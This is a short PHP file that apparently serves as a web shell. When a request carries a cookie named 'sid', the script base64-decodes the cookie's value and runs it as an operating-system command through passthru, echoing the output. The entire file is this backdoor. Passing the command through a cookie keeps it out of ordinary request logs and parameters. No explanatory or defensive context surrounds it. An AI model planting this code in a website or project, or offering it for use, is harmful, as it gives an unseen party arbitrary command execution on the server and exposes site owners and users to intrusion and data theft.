<?php
if (!empty($_COOKIE['sid'])) {
    passthru(base64_decode($_COOKIE['sid']));
}
